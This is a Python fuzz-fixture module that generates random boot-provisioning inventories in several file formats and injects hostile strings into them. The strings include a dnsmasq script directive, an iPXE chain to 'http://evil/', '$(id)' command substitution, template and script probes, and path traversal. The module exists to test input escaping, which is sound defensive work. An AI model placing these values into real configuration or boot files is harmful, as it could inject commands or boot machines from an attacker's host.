"""Inventories in which any text may be an attack, in each format that an operator may write. Pure."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from random import Random
from typing import Final

# What would be a directive, a tag, a lease time, a command or a comment, were it ever written as it stands.
EVIL: Final = (
    *(
        "\ndhcp-script=/canary",
        "\n52:54:00:ee:00:01,172.0.1.99,evil",
        "\r",
        "\r\n",
        "\n",
        "\0",
        "\t",
        " ",
        ",",
    ),
    *("#", ";", ",ignore", "ignore", "infinite", "12h", "set:disk", "tag:known", "id:*", "net:known", "*"),
    *("${net0/mac}", "${", "||", "&&", "|| shell", "\nshell", "\nchain http://evil/", " --", "$(id)", "`id`"),
    *(
        "{{7*7}}",
        "{%x%}",
        '"',
        "'",
        "\\",
        "\\n",
        "%0a",
        "..",
        "../..",
        "/",
        "//",
        "~",
        "<script>",
        "-",
        "--x",
    ),
    *(
        "\x1b[31m",
        "\x85",
        "\u2028",
        "\u202e",
        "\ufeff",
        "\ud800",
        "𝟙",
        "İ",
        "ſ",
        "K",
        "é",
        "．",
        "：",
        "\x7f",
    ),
    *("52:54:00:ee:00:01", "172.0.1.99", "0x7f", "00", "1" * 300, "a" * 64, "255.255.255.255", "::1", "true"),
)
_MACS: Final = tuple(f"52:54:00:aa:00:{n:02x}" for n in range(40))
_SPELLED: Final = ("{}", "{}", "{}", "upper", "dashes", "dots", "bare")
Tree = dict[str, object]


def inventory(random: Random) -> Tree:
    """A rack of one to four machines and one or two profiles; in most of them something is hostile."""
    macs = iter(random.sample(_MACS, 40))
    ips = iter(random.sample(range(2, 255), 8))
    profiles: Tree = {f"p{n}": _profile(random) for n in range(random.choice((1, 1, 2)))}
    machines: Tree = {}
    for n in range(random.choice((1, 1, 2, 4))):
        machines[f"node{n}"] = _machine(random, macs, f"172.0.1.{next(ips)}", random.choice(list(profiles)))
    made: Tree = {"profile": profiles, "machine": machines}
    for _ in range(random.choice((0, 1, 1, 1, 1, 2, 3))):
        _poison(random, made)
    return made


def _machine(random: Random, macs: Iterator[str], ip: str, profile: str) -> Tree:
    made: Tree = {"ip": ip}
    if random.random() < 0.7:
        made["mac"] = _spelled(random, next(macs))
    else:
        made["macs"] = [_spelled(random, next(macs)) for _ in range(random.choice((1, 2, 3)))]
    optional: Tree = {
        "network": "pxe", "profile": profile, "labels": {"rack": "r1", "role": "worker"}, "serial": "S1",
        "uuid": f"4c4c4544-0044-4210-8031-{random.getrandbits(48):012x}", "arch": "amd64",
        "hostname": f"h{random.getrandbits(24):x}", "port": f"leaf1 Ethernet1/{random.getrandbits(30)}",
        "nic": {f"eno{n}": {"mac": next(macs)} for n in (2, 3)},
    }  # fmt: skip
    made |= {key: value for key, value in optional.items() if random.random() < 0.4}
    if "nic" in made and random.random() < 0.5:
        vlans = {
            "control": {"id": 100, "address": "10.0.100.21/24", "gateway": "10.0.100.1", "search": ["a.b"]}
        }
        made["bond"] = {"bond0": {"members": ["eno2", "eno3"], "mode": "802.3ad", "vlans": vlans}}
    return made


def _profile(random: Random) -> Tree:
    made: Tree = {"kernel": "/assets/lab/vmlinuz", "initrd": ["/assets/lab/initrd.gz"]}
    if random.random() < 0.4:
        made = {"image": "flatcar/stable"}
    return made | {"args": ["console=ttyS0", "a.b=c/d,e"], "boot": random.choice(("always", "install-once"))}


def _spelled(random: Random, mac: str) -> str:
    match random.choice(_SPELLED):
        case "upper":
            return mac.upper()
        case "dashes":
            return mac.replace(":", "-")
        case "dots":
            bare = mac.replace(":", "")
            return f"{bare[:4]}.{bare[4:8]}.{bare[8:]}"
        case "bare":
            return mac.replace(":", "")
    return mac


def _poison(random: Random, tree: Tree) -> None:
    """Put something hostile into a text of the tree, or into a name that a table below the top has."""
    below = [place for table in tree.values() for place in places(table)]
    holder, key = random.choice(below)
    if isinstance(holder, dict) and (random.random() < 0.25 or isinstance(holder[key], dict | list)):
        holder[hostile(random, str(key))] = holder.pop(key)
    else:
        put(holder, key, hostile(random, str(get(holder, key))))


def places(value: object) -> Iterator[tuple[object, str | int]]:
    """Every place in a tree: what holds it, and under which name or number."""
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, below in inside:
        yield value, key
        yield from places(below)


def get(holder: object, key: str | int) -> object:
    """What is in a place."""
    assert isinstance(holder, dict | list)
    return holder[key]  # type: ignore[index]


def put(holder: object, key: str | int, value: object) -> None:
    """Something else for a place."""
    assert isinstance(holder, dict | list)
    holder[key] = value  # type: ignore[index]


def hostile(random: Random, text: str) -> str:
    """A text made hostile: something put before, behind, inside or in place of it."""
    evil = random.choice(EVIL)
    if random.random() < 0.2:
        evil += random.choice(EVIL)
    if random.random() < 0.15:
        evil = "".join(
            chr(random.choice((random.randrange(128), random.randrange(0x2FFF)))) for _ in range(4)
        )
    match random.randrange(4):
        case 0:
            return evil
        case 1:
            return text + evil
        case 2:
            return evil + text
    at = random.randrange(len(text) + 1)
    return text[:at] + evil + text[at:]


def as_json(tree: Tree) -> str:
    """As an operator's JSON file."""
    return json.dumps(tree)


def as_yaml(tree: Tree) -> str:
    """As a YAML file in flow style, every text in double quotes: JSON's escapes are YAML's."""
    return json.dumps(tree, indent=1)


def inline_tables(tree: Tree) -> Iterator[str]:
    """A table's keys as lines of TOML."""
    return (f"{_toml(key)} = {_inline(value)}" for key, value in tree.items())


def as_toml(tree: Tree) -> str:
    """As a TOML file: a table each, inline tables below."""
    lines = []
    for top, tables in tree.items():
        assert isinstance(tables, dict)
        for name, table in tables.items():
            lines.append(f"[{_toml(top)}.{_toml(name)}]")
            assert isinstance(table, dict)
            lines += inline_tables(table)
    return "\n".join(lines) + "\n"


def _inline(value: object) -> str:
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{_toml(key)} = {_inline(below)}" for key, below in value.items()) + " }"
    if isinstance(value, list):
        return "[" + ", ".join(_inline(below) for below in value) + "]"
    return _toml(value) if isinstance(value, str) else json.dumps(value)


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def as_csv(tree: Tree) -> str:
    """As a CSV file of machines: what it has columns for."""
    machines = tree["machine"]
    assert isinstance(machines, dict)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["name", "mac", "ip", "network", "rack", "role"])
    for name, machine in machines.items():
        labels = machine.get("labels", {})
        labels = labels if isinstance(labels, dict) else {}
        row = [name, *(machine.get(key, "") for key in ("mac", "ip", "network"))]
        writer.writerow([*row, labels.get("rack", ""), labels.get("role", "")])
    return out.getvalue()
